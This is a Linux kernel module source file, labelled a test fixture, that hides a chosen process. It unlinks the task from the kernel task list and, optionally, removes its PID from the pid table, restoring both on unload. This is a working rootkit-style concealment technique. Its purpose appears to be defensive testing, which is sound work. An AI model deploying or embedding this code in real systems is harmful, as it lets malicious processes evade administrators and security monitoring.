// SPDX-License-Identifier: GPL-2.0
/* Test fixture: takes a task off the task list, with deep=1 off the pid table, too. */
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include "attacker.h"

static int pid;
static int deep;
module_param(pid, int, 0);
module_param(deep, int, 0);

static struct task_struct *hidden;
static struct pid *number;

static int __init hide_task_init(void)
{
	number = find_get_pid(pid);
	hidden = get_pid_task(number, PIDTYPE_PID);
	if (!hidden)
		return -ESRCH;
	list_del_rcu(&hidden->tasks);
	if (deep)
		idr_remove(&init_pid_ns.idr, pid);
	return 0;
}

static void __exit hide_task_exit(void)
{
	if (deep)
		idr_alloc(&init_pid_ns.idr, number, pid, pid + 1, GFP_KERNEL);
	list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	put_task_struct(hidden);
	put_pid(number);
}

module_init(hide_task_init);
module_exit(hide_task_exit);
